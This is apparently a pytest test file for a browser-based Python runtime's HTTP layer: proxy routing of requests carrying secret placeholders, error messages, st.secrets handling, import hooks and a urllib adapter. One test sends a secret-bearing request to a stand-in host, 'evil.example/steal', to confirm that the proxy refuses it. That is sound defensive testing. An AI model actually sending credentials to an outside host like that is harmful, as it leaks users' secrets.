"""Web requests in the runtime, on CPython: where each request goes (the one policy all
adapters share), the messages for what fails, st.secrets placeholders, the post-import
hooks, and the urllib (http.client) adapter over a fake of urllib3's fetch backend.

The real backends run in Chromium: tests/browser/test_http.py.
"""

from __future__ import annotations

import base64
import json
import sys
import types
import urllib.error
import urllib.request
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest

from runtime_wasm.connections import DataConfig, configure
from runtime_wasm.http import (
    ERROR_HEADER,
    FORWARD_ROUTE,
    TARGET_HEADER,
    ForwardRules,
    HttpSettings,
    RequestProblem,
    _hooks,
    _httpclient,
    _route,
    placeholder,
)
from runtime_wasm.testing import AppTest

PROXY = "https://proxy.example.org"
KEY = placeholder("API_KEY")


@pytest.fixture
def settings() -> Iterator[None]:
    _route.configure(HttpSettings.make(PROXY, ("API_KEY", "openai.api_key"), ("data.gov",)))
    yield
    _route.configure(HttpSettings())
    _route.set_probe(None)


def test_placeholders_are_opaque_stable_and_survive_every_encoding() -> None:
    assert KEY == placeholder("API_KEY") != placeholder("API_KEY2")
    assert KEY.startswith("stc-secret-") and len(KEY) == 35
    assert "API" not in KEY
    from urllib.parse import quote, quote_plus

    assert quote(KEY) == quote_plus(KEY) == json.dumps(KEY)[1:-1] == KEY
    rules = ForwardRules(secrets={"API_KEY": ("api.example.com",)}, hosts=("data.gov",))
    assert ForwardRules.load(rules.dump()) == rules
    assert rules.by_placeholder() == {KEY: "API_KEY"}


@pytest.mark.parametrize(
    ("url", "headers", "body"),
    [
        (f"https://api.example.com/v1?key={KEY}", {}, None),
        ("https://api.example.com/v1", {"Authorization": f"Bearer {KEY}"}, None),
        ("https://api.example.com/v1", {}, json.dumps({"key": KEY}).encode()),
        (
            "https://api.example.com/v1",
            {"authorization": "Basic " + base64.b64encode(f"me:{KEY}".encode()).decode()},
            None,
        ),
        ("https://data.gov/rows.csv", {}, None),  # a proxy host, no secret
    ],
    ids=["query", "header", "body", "basic-auth", "proxy-host"],
)
def test_requests_with_a_placeholder_or_to_a_proxy_host_go_through_the_proxy(
    settings: None, url: str, headers: dict[str, str], body: bytes | None
) -> None:
    sent = _route.outgoing("POST", url, headers, body)
    assert sent.via_proxy and sent.url == PROXY + FORWARD_ROUTE
    assert sent.headers[TARGET_HEADER] == url and sent.target == url
    assert sent.body == body and sent.method == "POST"
    assert {k: v for k, v in sent.headers.items() if k != TARGET_HEADER} == headers


def test_other_requests_go_straight_to_their_server(settings: None) -> None:
    for url in ("https://api.example.com/v1", "https://sub.data.gov/x", "http://data.gov:8080/"):
        sent = _route.outgoing("GET", url, {"Accept": "*/*"}, None)
        assert not sent.via_proxy and sent.url == url and TARGET_HEADER not in sent.headers


def test_a_placeholder_without_a_proxy_url_names_the_secret_and_the_fix() -> None:
    _route.configure(HttpSettings.make("", ("API_KEY",), ()))
    try:
        with pytest.raises(RequestProblem, match=r"st.secrets\['API_KEY'\]") as raised:
            _route.outgoing("GET", "https://api.example.com/", {"X-Key": KEY}, None)
        assert "stc build --proxy-url URL" in str(raised.value)
    finally:
        _route.configure(HttpSettings())


def test_the_proxy_refusal_and_the_failures_read_as_sentences(settings: None) -> None:
    sent = _route.outgoing("GET", "https://evil.example/steal", {"X-Key": KEY}, None)
    body = json.dumps({"error": {"code": "secret-not-allowed", "message": "API_KEY: no"}})
    message = _route.refusal(sent, {ERROR_HEADER: "secret-not-allowed"}, body.encode())
    assert message == (
        "stc proxy refused the request to https://evil.example/steal (secret-not-allowed): "
        "API_KEY: no"
    )
    assert _route.refusal(sent, {"Content-Type": "text/plain"}, b"upstream 403") is None
    assert "stc proxy at https://proxy.example.org did not answer" in _route.failure(sent, "x")
    direct = _route.outgoing("GET", "https://no-cors.example/data", {}, None)
    _route.set_probe(lambda url: True)
    cors = _route.failure(direct, "Failed to fetch")
    assert "does not allow requests from this site's address (CORS)" in cors
    assert "add 'no-cors.example' to proxy_hosts under [tool.stc]" in cors
    _route.set_probe(lambda url: False)
    assert _route.failure(direct, "Failed to fetch").startswith("Nothing answered at")
    _route.set_probe(None)  # no JSPI: the browser cannot tell the two apart
    assert "the server is down, or it does not allow" in _route.failure(direct, "Failed")


def test_st_secrets_gives_placeholders_for_keys_the_proxy_holds(settings: None) -> None:
    configure(DataConfig(public_secrets={"map_token": "pk.1", "openai": {"org": "acme"}}))
    try:
        at = AppTest.from_string(
            """
            import streamlit as st
            st.write(st.secrets["API_KEY"])
            st.write(st.secrets.openai.api_key + " " + st.secrets.openai.org)
            st.write(repr(st.secrets["API_KEY"]), st.secrets["map_token"])
            """
        ).run()
    finally:
        configure(DataConfig())
    assert not at.exception
    assert [m.value for m in at.markdown][:2] == [KEY, f"{placeholder('openai.api_key')} acme"]
    assert "<st.secrets['API_KEY']: held by stc proxy> pk.1" in at.markdown[2].value


def test_hooks_patch_a_module_when_it_is_imported_and_not_before(
    tmp_path: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "stc_fake_lib.py").write_text("VALUE = 1\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    seen: list[str] = []

    def patch(module: types.ModuleType) -> None:
        seen.append(module.__name__)
        module.VALUE = 2  # type: ignore[attr-defined]

    before = list(sys.meta_path)
    try:
        _hooks.install({"stc_fake_lib": patch})
        assert seen == []
        import stc_fake_lib  # type: ignore[import-not-found]

        assert (seen, stc_fake_lib.VALUE) == (["stc_fake_lib"], 2)
        _hooks.install({"stc_fake_lib": patch})  # already imported: patched at once
        assert seen == ["stc_fake_lib", "stc_fake_lib"]
    finally:
        sys.meta_path[:] = before
        sys.modules.pop("stc_fake_lib", None)


@dataclass
class _FakeRequest:
    method: str
    url: str
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes | None = None
    timeout: float = 0


@dataclass
class _FakeAnswer:
    status_code: int
    headers: dict[str, str]
    body: bytes


class _FakeError(Exception):
    pass


@pytest.fixture
def fetch(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[_FakeRequest]]:
    """urllib over stc's http.client adapter, urllib3's backend faked: answers by URL."""
    import http.client

    sent: list[_FakeRequest] = []

    def send(request: _FakeRequest) -> _FakeAnswer:
        sent.append(request)
        if "down" in request.url:
            raise _FakeError("Failed to fetch")
        if request.url.endswith("/missing"):
            return _FakeAnswer(404, {"Content-Type": "text/plain"}, b"no such page")
        headers = {"Content-Type": "text/csv", "Content-Encoding": "gzip", "X-Id": "7"}
        return _FakeAnswer(200, headers, b"a,b\n1,2\n")  # the browser already decoded it

    monkeypatch.setattr(
        _httpclient, "backend", lambda: (send, _FakeError, TimeoutError, _FakeRequest)
    )
    saved = http.client.HTTPConnection, http.client.HTTPSConnection
    _httpclient.patch(http.client)
    try:
        yield sent
    finally:
        http.client.HTTPConnection, http.client.HTTPSConnection = saved
        del http.client.__stc_routed__  # type: ignore[attr-defined]


def test_urllib_goes_through_the_fetch_backend(fetch: list[_FakeRequest]) -> None:
    request = urllib.request.Request(
        "https://example.org:8443/data.csv?x=1", data=b"q=1", headers={"X-Token": "t"}
    )
    with urllib.request.urlopen(request, timeout=5) as answer:
        assert (answer.status, answer.read()) == (200, b"a,b\n1,2\n")
        assert answer.headers["X-Id"] == "7" and "Content-Encoding" not in answer.headers
    (sent,) = fetch
    assert (sent.method, sent.url, sent.body) == ("POST", "https://example.org:8443/data.csv?x=1",
                                                  b"q=1")  # fmt: skip
    assert sent.headers["X-Token"] == "t" and sent.timeout == 5
    assert not {"Host", "Connection"} & set(sent.headers)  # the browser's to set
    with pytest.raises(urllib.error.HTTPError) as missing:
        urllib.request.urlopen("http://example.org/missing")
    assert missing.value.code == 404 and missing.value.read() == b"no such page"
    with pytest.raises(urllib.error.URLError, match="Failed to fetch"):
        urllib.request.urlopen("http://down.example.org/")


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://API.example.com/v1", "api.example.com"),
        ("https://api.example.com:443/v1", "api.example.com"),
        ("http://127.0.0.1:8123/x", "127.0.0.1:8123"),
        ("http://[::1]:8080/", "[::1]:8080"),  # never "::1:8080", itself an address
        ("http://[::1]/", "[::1]"),
    ],
)
def test_host_of_names_hosts_as_rules_do(url: str, host: str) -> None:
    from runtime_wasm.http import host_allowed, host_of

    assert host_of(url) == host
    assert host_allowed(host, [host.upper()])
    assert not host_allowed("example.com", ["*.example.com"])  # a subdomain wildcard only
    assert host_allowed("a.example.com", ["*.example.com"])


@pytest.mark.parametrize(
    "text",
    [
        '{"version": 1, "secrets": {"K": "api.x.com"}, "hosts": []}',  # one host per letter
        '{"version": 1, "secrets": {}, "hosts": "data.gov"}',
        '{"version": 2, "secrets": {}, "hosts": []}',
    ],
)
def test_rules_that_are_not_lists_of_hosts_are_refused(text: str) -> None:
    with pytest.raises(ValueError):
        ForwardRules.load(text)


def test_pandas_reads_a_url_through_the_fetch_backend(fetch: list[_FakeRequest]) -> None:
    # pandas' URL readers use urllib.request.urlopen: the http.client adapter serves
    # them, and the answer's Content-Encoding (already undone by the browser) is left
    # out, or pandas would gunzip plain text
    pd = pytest.importorskip("pandas")
    frame = pd.read_csv("https://example.org/data.csv")
    assert frame.to_dict("list") == {"a": [1], "b": [2]}
    assert [r.url for r in fetch] == ["https://example.org/data.csv"]
